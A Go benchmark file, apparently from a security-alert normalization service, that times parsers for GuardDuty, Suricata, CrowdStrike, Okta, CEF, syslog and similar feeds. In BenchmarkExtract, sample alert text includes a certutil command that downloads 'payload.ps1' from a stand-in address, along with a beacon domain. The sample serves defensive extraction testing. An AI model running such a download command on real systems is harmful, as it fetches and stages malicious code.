package normalize

import (
	"testing"

	"github.com/securenexus/securenexus/internal/entity"
)

// benchNormalize measures one normalizer over a corpus file (the whole
// payload per op); ns/op and allocs are per payload.
func benchNormalize(b *testing.B, sourceType, file string) {
	raw := readCorpus(b, file)
	n, ok := Lookup(sourceType)
	if !ok {
		b.Fatalf("no normalizer %q", sourceType)
	}
	as, err := n.Normalize(raw)
	if err != nil || len(as) == 0 {
		b.Fatalf("normalize: %d alerts, %v", len(as), err)
	}
	b.SetBytes(int64(len(raw)))
	b.ReportAllocs()
	b.ReportMetric(float64(len(as)), "alerts/op")
	for b.Loop() {
		if _, err := n.Normalize(raw); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkNormalizeGuardDuty(b *testing.B) {
	benchNormalize(b, "guardduty", "guardduty/elastic_test-guardduty.ndjson")
}
func BenchmarkNormalizeSecurityHub(b *testing.B) {
	benchNormalize(b, "securityhub", "securityhub/asff_guardduty_cloudtrail_disabled.json")
}
func BenchmarkNormalizeCloudTrail(b *testing.B) {
	benchNormalize(b, "cloudtrail", "cloudtrail/elastic_test-console-login.ndjson")
}
func BenchmarkNormalizeSuricata(b *testing.B) {
	benchNormalize(b, "suricata", "suricata/elastic_test-eve-small.ndjson")
}
func BenchmarkNormalizeZeek(b *testing.B) {
	benchNormalize(b, "zeek", "zeek/elastic_test-notice.ndjson")
}
func BenchmarkNormalizeWazuh(b *testing.B) {
	benchNormalize(b, "wazuh", "wazuh/wazuh-indexer_wazuh-event.sample.json")
}
func BenchmarkNormalizeElastic(b *testing.B) {
	benchNormalize(b, "elastic", "elastic_security/elastic_defend_malware_prevention_alert.sample_event.json")
}
func BenchmarkNormalizeDefender(b *testing.B) {
	benchNormalize(b, "defender", "microsoft_defender/elastic_test-defenderatp.ndjson")
}
func BenchmarkNormalizeCrowdStrike(b *testing.B) {
	benchNormalize(b, "crowdstrike", "crowdstrike/elastic_test-falcon-epp-detection-summary.subset.ndjson")
}
func BenchmarkNormalizeOkta(b *testing.B) {
	benchNormalize(b, "okta", "okta/system_log_security_threat_detected.json")
}
func BenchmarkNormalizeOCSF(b *testing.B) {
	benchNormalize(b, "ocsf", "ocsf/detection_finding_sechub_guardduty.ocsf.json")
}
func BenchmarkNormalizeCEF(b *testing.B) {
	benchNormalize(b, "cef", "cef_paloalto/elastic_test-cef.log")
}
func BenchmarkNormalizePANOS(b *testing.B) {
	benchNormalize(b, "panos", "cef_paloalto/elastic_panos_threat.subset.log")
}
func BenchmarkNormalizeSyslog(b *testing.B) {
	benchNormalize(b, "syslog", "syslog/loghub_Linux_2k.head20.log")
}

func BenchmarkNormalizeGeneric(b *testing.B) {
	raw := []byte(`{"alert_id":"A-1","name":"Brute force on ssh","details":"Many failures from 203.0.113.9","severity":"high",` +
		`"@timestamp":"2024-05-01T10:00:00Z","src_ip":"203.0.113.9","host":{"name":"web-01"},"user":"admin","technique_id":"T1110"}`)
	b.SetBytes(int64(len(raw)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Normalize("generic", raw); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkDetect(b *testing.B) {
	raw := readCorpus(b, "crowdstrike/elastic_test-falcon-epp-detection-summary.subset.ndjson")
	b.ReportAllocs()
	for b.Loop() {
		if Detect(raw) != "crowdstrike" {
			b.Fatal("detect")
		}
	}
}

// BenchmarkExtract scans a typical alert description (free text).
func BenchmarkExtract(b *testing.B) {
	text := `Process C:\Windows\System32\cmd.exe /c certutil -urlcache -f http://198.51.100.23:8080/payload.ps1 launched by ` +
		`CORP\admin on host web-01 (10.1.2.3); beacon to update.evil-cdn.net, sha256 ` +
		`275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f, contact soc@example.com`
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		if len(entity.Extract(text)) < 5 {
			b.Fatal("extract")
		}
	}
}
